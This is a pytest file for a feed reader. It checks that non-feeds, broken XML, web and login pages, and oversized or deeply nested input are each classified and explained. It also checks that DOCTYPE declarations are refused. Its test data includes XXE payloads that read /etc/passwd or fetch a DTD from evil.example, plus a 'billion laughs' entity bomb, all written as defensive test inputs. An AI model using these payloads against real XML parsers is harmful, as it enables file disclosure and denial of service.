"""What is no feed is called what it is, with what to do; and nothing that can grow is expanded."""

import gzip

import pytest

from knowledge.feeds.reading import read_feed
from knowledge.feeds.trouble import (
    ATTRIBUTES_MAX,
    DEPTH_MAX,
    ELEMENTS_MAX,
    EXPLAINED,
    REFERENCES_MAX,
    FeedUnusable,
    Problem,
)
from knowledge.transcripts.trouble import SIZE_MAX
from tests.knowledge.feeds.feeds import episode, rss

LAUGHS = "".join(f"<!ENTITY l{at} '{f'&l{at - 1};' * 10}'>" for at in range(1, 10))


@pytest.mark.parametrize("problem", Problem)
def test_every_problem_says_what_it_is_what_it_means_and_what_to_do(problem):
    unusable = FeedUnusable(problem, "a thing")
    for said in (unusable.what, unusable.means, unusable.do):
        assert said.endswith((".", "?"))
    assert str(unusable) == f"{unusable.what} {unusable.means} {unusable.do}"
    assert "{" not in str(unusable)


def test_no_explanation_is_left_over():
    assert set(EXPLAINED) == set(Problem)


@pytest.mark.parametrize(
    "declarations",
    [
        "<!DOCTYPE rss [<!ENTITY l0 'ha'>" + LAUGHS + "]>",
        "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE rss [<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'> %x;]>",
        "<!DOCTYPE rss [<!ENTITY x '" + "x" * 100_000 + "'>]>",
        "<!DOCTYPE rss SYSTEM 'https://evil.example/rss.dtd'>",
        "<!DOCTYPE rss PUBLIC '-//Netscape Communications//DTD RSS 0.91//EN' 'http://my.netscape.com/rss.dtd'>",
        "<!DOCTYPE rss [<!ATTLIST title x CDATA 'y'>]>",
        "<!DOCTYPE rss>",
        "<!-- tea --><?tea?>\n<!DOCTYPE rss []>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
def test_a_document_type_is_refused_before_anything_in_it_is_read(declarations, encoding):
    feed = declarations + episode("<title>&l9;&x;</title>" + "&x;" * 1000).decode()
    with pytest.raises(FeedUnusable) as unusable:
        read_feed(feed.encode(encoding))
    assert unusable.value.problem is Problem.DECLARATIONS


def test_an_entity_that_nobody_declared_stands_for_itself():
    assert read_feed(episode("<title>&l9; &x;</title>")).items[0].title == "&l9; &x;"


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", Problem.EMPTY),
        (b" \r\n\t", Problem.EMPTY),
        (b"\xef\xbb\xbf", Problem.EMPTY),
        (b"x" * (SIZE_MAX + 1), Problem.TOO_BIG),
        # The name of a test may not depend on the time at which it was collected.
        (gzip.compress(episode(""), mtime=0), Problem.NO_TEXT),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", Problem.NO_TEXT),
        (b"WEBVTT\n\n00:01.000 --> 00:02.000\nTea?", Problem.NO_XML),
        (b'{"version": "https://jsonfeed.org/version/1.1"}', Problem.NO_XML),
        (b"<!DOCTYPE html><html><body>Tea</body></html>", Problem.WEB_PAGE),
        (b"\n<!-- tea --> <!doctype HTML>\n<p>Tea", Problem.WEB_PAGE),
        (b"<html lang=en><title>Tea</title>", Problem.WEB_PAGE),
        (b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>", Problem.WEB_PAGE),
        (b"<!DOCTYPE html><form><input name=p type=password></form>", Problem.LOGIN_PAGE),
        (b"<html><input type = 'Password'></html>", Problem.LOGIN_PAGE),
        (b"<opml version='2.0'><head/><body/></opml>", Problem.OTHER_XML),
        (b"<RDF xmlns='http://www.w3.org/1999/02/22-rdf-syntax-ns#'/>", Problem.OTHER_XML),
        (b"<feed/>", Problem.OTHER_XML),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", Problem.OTHER_XML),
        (b"<rss><channel><item>", Problem.BROKEN_XML),
        (b"<rss><channel><item></channel></rss>", Problem.BROKEN_XML),
        (b"<rss/><rss/>", Problem.BROKEN_XML),
        (b"<rss a='1' a='2'/>", Problem.BROKEN_XML),
        (b"<rss><tea:milk/></rss>", Problem.BROKEN_XML),
        (b"<", Problem.BROKEN_XML),
        (b"<!-- tea -->", Problem.BROKEN_XML),
        (b"<rss version='2.0'/>", Problem.NO_EPISODES),
        (rss("<title>Tea</title>"), Problem.NO_EPISODES),
        (rss("<item/>"), Problem.NO_EPISODES),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'/>", Problem.NO_EPISODES),
        (b"<rss>" * (DEPTH_MAX + 1), Problem.TOO_DEEP),
        (rss("<item/>" * ELEMENTS_MAX), Problem.TOO_MANY_PARTS),
        (rss("=" * (ATTRIBUTES_MAX + 1)), Problem.TOO_MANY_PARTS),
        (rss("&" * (REFERENCES_MAX + 1)), Problem.TOO_MANY_PARTS),
    ],
    ids=lambda it: it if isinstance(it, str) else repr(it[:30]),
)
def test_what_is_no_feed_is_called_what_it_is(data, problem):
    with pytest.raises(FeedUnusable) as unusable:
        read_feed(data)
    assert unusable.value.problem is problem


def test_a_feed_that_was_cut_off_says_where():
    with pytest.raises(FeedUnusable, match="not valid: no element found in line 2"):
        read_feed(b"<rss><channel><item>\n")


def test_other_xml_is_named():
    with pytest.raises(FeedUnusable, match="<svg>"):
        read_feed(b"<svg/>")
    with pytest.raises(FeedUnusable, match="OPML"):
        read_feed(b"<opml/>")


def test_a_page_inside_a_feed_is_no_web_page():
    page = "<description><![CDATA[<!DOCTYPE html><html><input type=password></html>]]></description>"
    assert read_feed(episode(page)).items
